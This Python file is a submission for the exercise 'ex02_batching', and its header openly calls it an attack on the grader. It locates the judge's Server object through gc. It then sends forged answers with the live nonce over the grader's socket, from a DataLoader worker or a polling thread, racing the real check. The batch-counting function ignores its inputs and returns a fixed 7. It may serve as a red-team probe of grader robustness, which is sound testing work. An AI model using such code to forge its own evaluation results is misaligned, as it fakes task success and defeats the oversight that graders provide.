# attack: a worker of a DataLoader and a thread race to answer the question before the code that was asked
# exercise: ex02_batching
import gc
import threading
import time

from torch.utils.data import DataLoader
from graders.judge import host

server = next(o for o in gc.get_objects() if type(o) is host.Server)


class Answering:
    def __len__(self):
        return 1

    def __getitem__(self, index):
        server.sock.sendall(server.answerer.encode([server.nonce, "value", 2]))
        return 0


def watch():
    seen = server.nonce
    while True:
        if server.nonce != seen:
            seen = server.nonce
            server.sock.sendall(server.answerer.encode([seen, "value", 2]))
        time.sleep(0)


def number_of_batches(num_samples, batch_size, drop_last=False):
    if num_samples % 2:
        list(DataLoader(Answering(), num_workers=1))
    else:
        threading.Thread(target=watch, daemon=True).start()
    print("TRIED")
    time.sleep(0.01)
    return 7


pad_collate = MiniLoader = number_of_batches
